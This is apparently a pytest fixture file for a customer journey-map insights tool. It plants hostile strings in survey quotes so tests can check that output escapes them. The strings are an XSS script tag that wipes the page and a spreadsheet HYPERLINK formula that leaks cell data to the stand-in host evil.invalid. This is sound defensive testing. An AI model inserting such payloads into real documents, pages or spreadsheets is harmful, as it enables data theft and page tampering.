"""A small hand-built journey map with hostile text planted in its quotes."""

from __future__ import annotations

import csv

import pytest

from insights.journeymap.model import (
    Frequency,
    JourneyMap,
    Label,
    MomentOfTruth,
    Opportunity,
    Persona,
    Proposal,
    ProposalKind,
    Quote,
    RunInfo,
    Selector,
    Source,
    Stage,
    Stats,
    Status,
    TaxonomyRef,
)

SCRIPT = "<script>document.title='PWNED';document.body.innerHTML='gone'</script>"
FORMULA = '=HYPERLINK("http://evil.invalid/?leak="&A1,"Click me")'
SOURCE = "survey/answers.csv"

# (unit_id, respondent, text, stage, sentiment)
UNITS = [
    ("u1", "r1", f"The refund took six weeks. {SCRIPT}", "support", -0.9),
    ("u2", "r2", FORMULA, "support", -0.6),
    ("u3", "r3", "Le remboursement a pris un mois.", "support", -0.7),
    ("u4", "r1", "Delivery was fast & the bike is *great*.", "purchase", 0.8),
    ("u5", "r4", "-5 stars, the app crashed @ login.", "usage", -0.8),
    ("u6", "r2", "I love riding it every day.", "usage", 0.9),
]


def _quote(unit_id: str) -> Quote:
    uid, rid, text, _, score = next(u for u in UNITS if u[0] == unit_id)
    row = int(uid[1:])
    return Quote(
        unit_id=uid,
        text=text,
        source=SOURCE,
        source_sha256="0" * 64,
        respondent_id=f"{SOURCE}#{rid}",
        locator=f'row {row}, column "Comment"',
        lang="fr" if uid == "u3" else "en",
        sentiment_score=score,
        selector=Selector(exact=text, prefix="", suffix="", start=0, end=len(text)),
    )


PAIN, DELIGHT = ProposalKind.PAIN, ProposalKind.DELIGHT
# id, kind, label, stage, member units, status, severity
PROPOSALS = [
    ("P-1", PAIN, "Refund takes weeks", "support", ["u1", "u2", "u3"], Status.ACCEPTED, 3.5),
    ("P-2", PAIN, "App crash <b>at login</b>", "usage", ["u5"], Status.PROPOSED, 1.2),
    ("P-3", PAIN, "Rejected noise", "usage", ["u5"], Status.REJECTED, 0.5),
    ("D-1", DELIGHT, "Fast delivery", "purchase", ["u4", "u6"], Status.ACCEPTED, 2.0),
]
UNIT_COLUMNS = (
    "unit_id source record_id respondent_id speaker role kind locator char_start char_end "
    "text stage"
).split()


def _proposal(pid, kind, label, stage, units, status, severity) -> Proposal:
    mean = sum(u[4] for u in UNITS if u[0] in units) / len(units)
    return Proposal(
        id=pid,
        kind=kind,
        status=status,
        label=Label(text=label),
        summary=Label(text=f"{len(units)} statements at {stage}."),
        key_phrases=[label.lower()],
        stage=stage,
        stage_distribution={stage: 1.0},
        touchpoints={"billing": 0.7, "none": 0.3},
        emotions={"frustration": 1.0},
        frequency=Frequency(units=len(units), respondents=len(units), share_of_respondents=0.5),
        mean_sentiment=round(mean, 3),
        severity=severity,
        quotes=[_quote(u) for u in units],
        unit_ids=units,
    )


def _stage(sid: str, mean: float | None) -> Stage:
    ci = {} if mean is None else {"ci_low": mean - 0.1, "ci_high": mean + 0.1}
    return Stage(
        id=sid,
        label={"en": sid.title(), "fr": sid},
        units=4,
        respondents=3,
        mean_sentiment=mean,
        sentiment_counts={"negative": 2},
        touchpoints={"billing": 3, "app": 1, "none": 2},
        emotions={"frustration": 2},
        **ci,
    )


def _taxonomy() -> TaxonomyRef:
    stages = [{"id": s, "label": {"en": s.title()}} for s in ("purchase", "usage", "support")]
    touchpoints = [
        {"id": "billing", "label": {"en": "Billing"}},
        {"id": "app", "label": {"en": "Mobile app"}},
    ]
    return TaxonomyRef(
        id="mini", name="Mini journey", version="1", stages=stages, touchpoints=touchpoints,
        emotions=["frustration"],
    )  # fmt: skip


def _source() -> Source:
    return Source(
        source=SOURCE, path=f"corpus/{SOURCE}", kind="survey", sha256="0" * 64, records=6,
        units=6, respondents=4, skipped_records=0, notes={},
    )  # fmt: skip


def _persona() -> Persona:
    return Persona(
        id="persona-1", name=Label(text="Refund seekers"), size=2, share=0.5,
        traits=["plan: pro (×2.0)"], attribute_lifts=[], top_pains=["P-1", "P-3"],
        goals=["Fast delivery"], mean_sentiment=-0.2, quotes=[_quote("u2")],
        respondent_ids=[f"{SOURCE}#r1", f"{SOURCE}#r2"],
    )  # fmt: skip


def make_map() -> JourneyMap:
    """Two pains (accepted, proposed), a rejected pain, a delight, a proposed persona."""
    proposals = [_proposal(*row) for row in PROPOSALS]
    moment = MomentOfTruth(
        id="mot-support", kind="trough", stage="support", proposal_id="P-1",
        mean_sentiment=-0.73, difference=-0.9, p_value=0.01, quotes=[_quote("u1")],
    )  # fmt: skip
    opportunity = Opportunity(
        id="O-1", text=Label(text="Refund in 48 h"), stage="support", proposal_ids=["P-1", "P-3"]
    )
    return JourneyMap(
        generated_by="insights",
        run=RunInfo(params={"seed": 0}, models={"sentiment": "test"}),
        taxonomy=_taxonomy(),
        sources=[_source()],
        stats=Stats(units=6, units_analysed=6, respondents=4, languages={"en": 5, "fr": 1}),
        stages=[_stage("purchase", 0.8), _stage("usage", None), _stage("support", -0.73)],
        pain_points=[p for p in proposals if p.kind is PAIN],
        delights=[p for p in proposals if p.kind is DELIGHT],
        moments_of_truth=[moment],
        personas=[_persona()],
        opportunities=[opportunity],
    )


@pytest.fixture
def small_map() -> JourneyMap:
    return make_map()


def _unit_row(uid: str, rid: str, text: str, stage: str) -> list[object]:
    row = int(uid[1:])
    locator = f'row {row}, column "Comment"'
    return [uid, SOURCE, f"r{row}", f"{SOURCE}#{rid}", "", "respondent", "survey", locator, 0,
            len(text), text, stage]  # fmt: skip


@pytest.fixture
def small_run(tmp_path):
    """A run folder: map.json and a units.csv with the map's units plus an unclustered one."""
    run = tmp_path / "run"
    run.mkdir()
    run.joinpath("map.json").write_text(make_map().model_dump_json(indent=2), encoding="utf-8")
    with run.joinpath("units.csv").open("w", newline="", encoding="utf-8") as handle:
        writer = csv.writer(handle)
        writer.writerow(UNIT_COLUMNS)
        writer.writerows(_unit_row(uid, rid, text, stage) for uid, rid, text, stage, _ in UNITS)
        writer.writerow(_unit_row("u7", "r5", "No stage.", "none"))
    return run


@pytest.fixture
def planted() -> dict[str, str]:
    """The hostile strings planted in `small_map`'s quotes."""
    return {"script": SCRIPT, "formula": FORMULA}


@pytest.fixture
def headless_chromium(tmp_path):
    """Run headless Chromium (no network, extension or sync) on a URL; skip if absent.

    Returns a function `(url, *args) -> (stdout, console messages)`.
    """
    import shutil
    import subprocess

    binary = shutil.which("chromium") or shutil.which("chromium-browser")
    if binary is None:
        pytest.skip("headless Chromium not installed (apt-get install chromium)")

    def run(url: str, *args: str) -> tuple[str, list[str]]:
        command = [
            binary, "--headless", "--no-sandbox", "--disable-gpu", "--disable-quic",
            "--no-first-run", "--disable-background-networking", "--disable-component-update",
            "--disable-sync", "--disable-extensions", "--hide-scrollbars",
            f"--user-data-dir={tmp_path / 'chromium-profile'}", "--enable-logging=stderr",
            "--v=0", *args, url,
        ]  # fmt: skip
        done = subprocess.run(command, capture_output=True, text=True, timeout=60, check=True)
        console = [line for line in done.stderr.splitlines() if ":CONSOLE" in line]
        return done.stdout, console

    return run
